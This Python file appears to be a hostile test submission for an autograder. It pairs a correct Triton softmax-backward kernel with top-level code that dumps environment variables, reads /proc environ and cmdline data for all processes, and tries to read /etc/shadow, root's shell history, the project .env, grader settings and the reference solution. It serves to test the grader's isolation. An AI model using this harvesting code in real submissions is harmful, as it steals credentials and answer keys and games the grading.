"""Hunts for secrets, then does the work correctly (so the verdict itself is unremarkable).

It prints its whole environment, the environment and command line of PID 1, of its parent and
of every process it can see in /proc, and tries to read files it must not see: the course
reference solution and the project's .env (found from the interpreter's prefix, which lives
in the project's virtual environment), /etc/shadow, a secret file the test plants in the
host's /tmp, and the grader's settings source. Each attempt prints READ_OK <path> or
READ_FAIL <path>.

Expected: verdict passed, and no secret of the grading process's environment or of those
files anywhere in the result document.
"""
import glob
import os
import sys
from pathlib import Path

import torch
import triton
import triton.language as tl


def _read(path):
    try:
        with open(path, "rb") as handle:
            data = handle.read(20000)
    except OSError as exc:
        print(f"READ_FAIL {path} {type(exc).__name__}")
        return
    text = data.replace(b"\0", b" ").decode(errors="replace")[:4000]
    print(f"READ_OK {path} {text}")


print("ENVIRON", dict(os.environ))
for pid in ["1", "self", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
    _read(f"/proc/{pid}/environ")
    _read(f"/proc/{pid}/cmdline")
_project = Path(sys.prefix).resolve().parent
_targets = [
    _project / ".env",
    _project / "grader" / "assignments" / "softmax_backward" / "reference.py",
    _project / "grader" / "settings.py",
    Path("/etc/shadow"),
    Path("/root/.bash_history"),
]
for finder in glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages", "__editable__*finder.py")):
    _read(finder)
    _text = Path(finder).read_text(errors="replace")
    for token in _text.split("'"):
        if token.startswith("/") and token.rstrip("/").endswith("grader"):
            _targets.append(Path(token) / "assignments" / "softmax_backward" / "reference.py")
_targets += [Path(p) for p in glob.glob("/tmp/grader-hostile-planted-secret*")]
for target in _targets:
    _read(target)


@triton.jit
def _vjp_rows(y_ptr, g_ptr, dx_ptr, N, sym, syn, sgm, sgn, sdm, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offs = tl.arange(0, BLOCK)
    acc = tl.zeros([BLOCK], dtype=tl.float32)
    for start in range(0, N, BLOCK):
        cols = start + offs
        mask = cols < N
        y = tl.load(y_ptr + row * sym + cols * syn, mask=mask, other=0.0).to(tl.float32)
        g = tl.load(g_ptr + row * sgm + cols * sgn, mask=mask, other=0.0).to(tl.float32)
        acc += y * g
    dot = tl.sum(acc, axis=0)
    for start in range(0, N, BLOCK):
        cols = start + offs
        mask = cols < N
        y = tl.load(y_ptr + row * sym + cols * syn, mask=mask, other=0.0).to(tl.float32)
        g = tl.load(g_ptr + row * sgm + cols * sgn, mask=mask, other=0.0).to(tl.float32)
        tl.store(dx_ptr + row * sdm + cols, (y * (g - dot)).to(dx_ptr.dtype.element_ty), mask=mask)


def _checked_vjp(y, g):
    if not isinstance(y, torch.Tensor) or not isinstance(g, torch.Tensor):
        raise TypeError("y and g must be tensors")
    if y.dim() != 2 or y.shape != g.shape:
        raise ValueError("y and g must be 2-D of the same shape")
    if y.dtype != g.dtype:
        raise TypeError("dtype mismatch")
    if y.device != g.device:
        raise ValueError("device mismatch")
    if y.requires_grad or g.requires_grad:
        raise ValueError("inputs must not require grad")
    m, n = y.shape
    dx = torch.empty((m, n), dtype=y.dtype, device=y.device)
    _vjp_rows[(m,)](y, g, dx, n, y.stride(0), y.stride(1), g.stride(0), g.stride(1), dx.stride(0), BLOCK=4096)
    return dx


def softmax_backward(y, g):
    return _checked_vjp(y, g)
